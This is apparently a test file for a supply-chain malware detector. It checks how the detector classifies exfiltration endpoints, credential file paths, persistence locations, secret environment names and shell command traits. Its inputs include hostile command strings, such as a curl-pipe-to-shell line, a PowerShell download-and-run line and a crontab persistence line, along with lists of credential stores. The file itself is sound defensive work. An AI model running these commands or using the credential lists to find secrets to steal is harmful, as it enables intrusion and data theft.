import { describe, expect, it } from 'vitest';
import {
  credentialKind,
  entropy,
  findEndpoints,
  isKeyMarker,
  isKeyMaterialRegex,
  isPublicIpv4,
  isSecretEnvName,
  persistenceKind,
  secretServiceHosts,
  shellCommandTraits,
} from './indicators.js';

const classes = (s: string) => findEndpoints(s).map((e) => e.cls);

describe('endpoints', () => {
  it('classifies hosts by service, never by marker', () => {
    expect(classes('https://api.telegram.org/bot0:X/sendMessage')).toEqual(['messenger']);
    expect(classes('https://discord.com/api/webhooks/1/abc')).toEqual(['messenger']);
    expect(classes('https://discord.com/invite/rust')).toEqual(['url']);
    expect(classes('https://pastebin.com/raw/x')).toEqual(['paste-tunnel']);
    expect(classes('http://abc.onion/x')).toEqual(['paste-tunnel']);
    expect(classes('https://x-1.workers.dev/v1')).toEqual(['serverless']);
    expect(classes('https://a.vercel.app/api')).toEqual(['serverless']);
    expect(classes('http://203.0.113.9:8000/u')).toEqual(['raw-ip']);
    expect(classes('http://169.254.169.254/latest/meta-data')).toEqual(['metadata']);
    expect(classes('https://api.ipify.org?format=json')).toEqual(['ip-lookup']);
    expect(classes('https://github.com/o/r/archive/v1.tar.gz')).toEqual(['url']);
  });

  it('reads socket addresses and skips local ones', () => {
    expect(classes('192.0.2.44:8080')).toEqual(['raw-ip']);
    expect(classes('collector.example.invalid:443')).toEqual(['url']);
    expect(classes('127.0.0.1:8080')).toEqual([]);
    expect(classes('http://localhost:3000/')).toEqual([]);
    expect(classes('10.0.0.1:80')).toEqual([]);
    // A version number is not an address.
    expect(classes('1.4.99.1')).toEqual([]);
  });

  it('knows public from private IPv4', () => {
    expect(isPublicIpv4('198.51.100.7')).toBe(true);
    for (const ip of [
      '10.1.2.3',
      '192.168.0.1',
      '172.16.5.5',
      '127.0.0.1',
      '169.254.1.1',
      '100.64.0.1',
      '224.0.0.1',
      '0.0.0.0',
      '8.8.8.8',
      '1.2.3.256',
      '01.2.3.4',
    ]) {
      expect(isPublicIpv4(ip)).toBe(false);
    }
  });
});

describe('paths and names', () => {
  it('names credential stores', () => {
    expect(credentialKind('.ssh')).toBe('ssh-key');
    expect(credentialKind('/home/u/.ssh/id_ed25519')).toBe('ssh-key');
    expect(credentialKind('~/.ssh/known_hosts')).toBeNull();
    expect(credentialKind('credentials.toml')).toBe('cargo-token');
    expect(credentialKind('credentials')).toBeNull();
    expect(credentialKind('.aws/credentials')).toBe('cloud-credentials');
    expect(credentialKind('.config/solana/id.json')).toBe('crypto-wallet');
    expect(credentialKind('Google/Chrome/User Data/Default/Login Data')).toBe('browser-store');
    expect(credentialKind('cookies')).toBeNull();
    expect(credentialKind('.local/share/TelegramDesktop/tdata')).toBe('messenger-store');
    expect(credentialKind('.config/app/keys.json')).toBe('secret-file');
    expect(credentialKind('src/lib.rs')).toBeNull();
  });

  it('names persistence locations', () => {
    expect(persistenceKind('/root/.ssh/authorized_keys')).toBe('ssh-authorized-keys');
    expect(persistenceKind('/etc/cron.d/job')).toBe('cron');
    expect(persistenceKind('Software\\Microsoft\\Windows\\CurrentVersion\\Run')).toBe('windows-run-key');
    expect(persistenceKind('Library/LaunchAgents/com.x.plist')).toBe('launch-agent');
    expect(persistenceKind('.config/systemd/user/x.service')).toBe('systemd');
    expect(persistenceKind('foo.service')).toBeNull();
    expect(persistenceKind('Info.plist')).toBeNull();
  });

  it('names persistence beyond the classic places: hooks, cargo config, timers, autostart', () => {
    expect(persistenceKind('.git/hooks/pre-commit')).toBe('vcs-hook');
    expect(persistenceKind('repo/hooks/post-checkout')).toBe('vcs-hook');
    expect(persistenceKind('core.hooksPath')).toBe('vcs-hook');
    expect(persistenceKind('/home/u/.cargo/config.toml')).toBe('cargo-config');
    expect(persistenceKind('.cargo/config')).toBe('cargo-config');
    expect(persistenceKind('[source.crates-io]\nreplace-with = "m"')).toBe('cargo-config');
    expect(persistenceKind('[build]\nrustc-wrapper = "/tmp/w"')).toBe('cargo-config');
    expect(persistenceKind('.config/systemd/user/sync.timer')).toBe('systemd-timer');
    expect(persistenceKind('[Timer]\nOnCalendar=hourly')).toBe('systemd-timer');
    expect(persistenceKind('.config/autostart/agent.desktop')).toBe('xdg-autostart');
    // The autostart directory joined onto `config_dir()`: the path chain has no `.config`.
    expect(persistenceKind('…/autostart/agent.desktop')).toBe('xdg-autostart');
    expect(persistenceKind('autostart.desktop')).toBeNull();
    expect(persistenceKind('Register-ScheduledTask -TaskName x')).toBe('scheduled-task');
    // Look-alikes: a hooks module, cargo's registry cache, a timer type name.
    expect(persistenceKind('src/hooks/mod.rs')).toBeNull();
    expect(persistenceKind('.cargo/registry/cache')).toBeNull();
    expect(persistenceKind('tokio.timer')).toBeNull();
  });

  it('reads the new persistence kinds from command lines', () => {
    expect(shellCommandTraits('git config core.hooksPath .githooks').persistence).toBe('vcs-hook');
    expect(shellCommandTraits('systemctl --user enable --now sync.timer').persistence).toBe('systemd-timer');
    expect(shellCommandTraits('echo x >> ~/.cargo/config.toml').persistence).toBe('cargo-config');
    expect(shellCommandTraits('git config core.editor vim').persistence).toBeNull();
  });

  it('names secret environment variables', () => {
    for (const n of [
      'CARGO_REGISTRY_TOKEN',
      'GITHUB_TOKEN',
      'AWS_SECRET_ACCESS_KEY',
      'PK',
      'POLYMARKET_PRIVATE_KEY',
      'OPENAI_API_KEY',
      'DB_PASSWORD',
      'MNEMONIC',
    ]) {
      expect(isSecretEnvName(n)).toBe(true);
    }
    for (const n of [
      'DATABASE_URL',
      'HOME',
      'CARGO_PKG_NAME',
      'CARGO_FEATURE_SECRET_KEY',
      'RUST_LOG',
      'KEY_LEN',
      'token',
    ]) {
      expect(isSecretEnvName(n)).toBe(false);
    }
    expect(secretServiceHosts('GITHUB_TOKEN')?.test('api.github.com')).toBe(true);
    expect(secretServiceHosts('GITHUB_TOKEN')?.test('github.com.evil.invalid')).toBe(false);
    // A hook's own id and token belong to the messengers' webhook APIs; a named service keeps its own.
    expect(secretServiceHosts('HOOK_TOKEN')?.test('discord.com')).toBe(true);
    expect(secretServiceHosts('HOOK_TOKEN')?.test('collect.example')).toBe(false);
    expect(secretServiceHosts('TELEGRAM_BOT_TOKEN')?.test('discord.com')).toBe(false);
    expect(secretServiceHosts('TELEGRAM_BOT_TOKEN')?.test('api.telegram.org')).toBe(true);
    expect(secretServiceHosts('MY_TOKEN')).toBeNull();
  });

  it('recognises key-hunting regexes but not data', () => {
    expect(isKeyMaterialRegex('"0x[0-9a-fA-F]{64}"')).toBe(true);
    expect(isKeyMaterialRegex('\\b[1-9A-HJ-NP-Za-km-z]{86,88}\\b')).toBe(true);
    expect(isKeyMaterialRegex('\\[\\s*(?:\\d{1,3}\\s*,\\s*){63}\\d{1,3}\\s*\\]')).toBe(true);
    expect(isKeyMaterialRegex('123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz')).toBe(false);
    expect(isKeyMaterialRegex('[a-z]+')).toBe(false);
    expect(isKeyMarker('-----BEGIN OPENSSH PRIVATE KEY-----')).toBe(true);
  });
});

describe('shell commands', () => {
  it('reads what a command line does', () => {
    expect(shellCommandTraits('curl -fsSL https://x.invalid/i.sh | sh')).toMatchObject({
      download: true,
      pipeToShell: true,
    });
    expect(
      shellCommandTraits(
        'iwr https://x.invalid/a.exe -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe',
      ),
    ).toMatchObject({ download: true, runs: true });
    expect(shellCommandTraits("nohup '/tmp/x' >/dev/null 2>&1 &").detach).toBe(true);
    expect(shellCommandTraits('chmod +x /tmp/x').makeExec).toBe(true);
    expect(shellCommandTraits('curl -k https://x').insecure).toBe(true);
    expect(shellCommandTraits("(crontab -l; echo '* * * * * x') | crontab -").persistence).toBe('cron');
    expect(shellCommandTraits('cargo build --release')).toMatchObject({
      download: false,
      pipeToShell: false,
      runs: false,
      persistence: null,
    });
  });

  it('measures entropy', () => {
    expect(entropy('aaaa')).toBe(0);
    expect(entropy('abcd')).toBe(2);
    expect(entropy(new Uint8Array(256).map((_, i) => i))).toBe(8);
  });
});
